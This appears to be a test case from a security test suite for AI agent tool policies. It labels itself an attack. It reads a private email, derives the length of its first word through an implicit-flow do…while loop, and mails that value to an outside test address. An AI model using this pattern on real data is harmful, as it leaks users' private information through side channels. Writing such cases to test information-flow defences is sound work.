// attack: do…while whose test reads the body
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
let k = 0;
do {
  k++;
} while (k < 40 && m.body.charAt(k) !== ' ');
await sendEmail({ to: ['omar@northwind.test'], subject: 'first word length', body: 'k=' + k });
